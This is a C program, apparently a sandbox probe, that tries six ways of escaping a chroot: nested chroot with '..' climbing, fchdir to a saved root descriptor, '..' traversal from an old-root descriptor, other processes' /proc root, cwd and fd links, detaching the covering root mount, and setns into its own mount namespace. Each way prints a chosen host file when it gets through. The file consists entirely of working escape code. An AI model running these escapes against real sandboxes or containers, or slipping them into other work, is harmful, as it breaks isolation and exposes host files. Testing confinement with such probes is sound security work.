// Ways out of a changed root. Each prints the host file that it was given, if it reaches it.
// usage: escape WAY PATH
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int show(int directory, const char *path) {
  char text[256];
  int fd = openat(directory, path, O_RDONLY | O_NOFOLLOW);
  if (fd < 0) return 0;
  ssize_t n = read(fd, text, sizeof text);
  if (n > 0) write(1, text, n);
  close(fd);
  return n > 0;
}

static void climb(void) {
  for (int i = 0; i < 300; i++) chdir("..");
}

// chroot(2): "a chroot changes only the root, not the working directory".
static void second_chroot(const char *path, int by_descriptor) {
  mkdir("/tmp/inner", 0755);
  int here = open("/", O_RDONLY | O_DIRECTORY);
  if (by_descriptor) {
    chroot("/tmp/inner");
    fchdir(here);
  } else {
    chdir("/");
    chroot("/tmp/inner");
  }
  climb();
  chroot(".");
  show(AT_FDCWD, path);
}

// The descriptor of the old root alone, and ".." from it.
static void from_descriptor(const char *path) {
  char up[1024] = "";
  int here = open("/", O_PATH | O_DIRECTORY);
  mkdir("/tmp/inner", 0755);
  chroot("/tmp/inner");
  chdir("/");
  for (int i = 0; i < 60; i++) strcat(up, "../");
  strncat(up, path + 1, sizeof up - strlen(up) - 1);
  show(here, up);
}

// Roots and working directories of every process that can be seen.
static void by_proc(const char *path) {
  static const char *const links[] = {"root", "cwd", "root/../..", "task/1/root"};
  char name[1024];
  DIR *proc = opendir("/proc");
  struct dirent *entry;
  while (proc != NULL && (entry = readdir(proc)) != NULL) {
    for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
      snprintf(name, sizeof name, "/proc/%s/%s%s", entry->d_name, links[i], path);
      if (show(AT_FDCWD, name)) return;
    }
    for (int fd = 0; fd < 64; fd++) {
      snprintf(name, sizeof name, "/proc/%s/fd/%d%s", entry->d_name, fd, path);
      if (show(AT_FDCWD, name)) return;
    }
  }
}

// What lies under the root, when the old one was only covered.
static void under_root(const char *path) {
  unshare(CLONE_NEWNS);
  mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
  for (int i = 0; i < 3; i++) {
    chdir("/");
    umount2("/", MNT_DETACH);
    umount2(".", MNT_DETACH);
    climb();
    chroot(".");
    if (show(AT_FDCWD, path)) return;
  }
}

// A mount namespace's root is not the process's root: setns to one's own puts it back.
static void rejoin(const char *path) {
  int ns = open("/proc/self/ns/mnt", O_RDONLY);
  if (setns(ns, CLONE_NEWNS) < 0) return;
  climb();
  show(AT_FDCWD, path);
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  const char *way = argv[1], *path = argv[2];
  write(1, "tried\n", 6);
  if (strcmp(way, "chroot") == 0) second_chroot(path, 0);
  if (strcmp(way, "fchdir") == 0) second_chroot(path, 1);
  if (strcmp(way, "descriptor") == 0) from_descriptor(path);
  if (strcmp(way, "proc") == 0) by_proc(path);
  if (strcmp(way, "under") == 0) under_root(path);
  if (strcmp(way, "rejoin") == 0) rejoin(path);
  return 0;
}
